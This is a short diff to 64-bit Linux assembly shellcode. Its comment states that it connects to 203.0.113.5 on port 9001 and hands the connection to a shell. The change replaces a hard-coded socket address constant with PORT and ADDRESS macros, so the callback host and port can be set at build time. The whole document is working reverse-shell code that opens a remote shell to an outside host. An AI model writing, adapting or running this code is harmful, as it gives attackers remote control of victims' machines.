@@ -1,5 +1,9 @@
 ; Linux, 64 bit: connects to 203.0.113.5 port 9001 and hands the connection to a shell.
 bits 64
+%ifndef PORT
+%define PORT 9001
+%define ADDRESS 0x057100cb     ; 203.0.113.5
+%endif
         push 41
         pop rax
         cdq
@@ -9,7 +13,7 @@ bits 64
         pop rsi
         syscall
         xchg rdi, rax
-        mov rcx, 0x057100cb29230002
+        mov rcx, (ADDRESS << 32) | ((PORT & 255) << 24) | ((PORT >> 8) << 16) | 2
         push rcx
         mov rsi, rsp
         push 16
